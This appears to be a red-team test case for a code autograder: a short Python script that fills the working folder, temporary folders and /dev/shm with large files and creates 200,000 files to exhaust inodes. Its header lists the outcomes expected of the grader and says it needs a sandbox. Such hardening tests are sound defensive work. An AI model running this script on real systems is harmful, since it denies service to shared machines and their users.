# goal: a grader without room to write
# technique: fills its own folder, temporary folders and shared memory, and uses up the inodes
# lab: m01_mini
# base: wrong
# expect: graded, student code raised, out of memory, killed, timed out
# needs: sandbox
# %%
import os
import tempfile

block = b"x" * (1 << 20)
for place in (".", tempfile.gettempdir(), "/dev/shm", "/tmp", "/var/tmp"):
    for number in range(4):
        try:
            with open(os.path.join(place, f"redteam-fills_the_disk-{number}"), "wb") as file:
                for _ in range(2048):
                    file.write(block)
        except OSError as error:
            print(place, error)
# %%
for number in range(200_000):
    open(f"redteam-fills_the_disk-inode-{number}", "w").close()
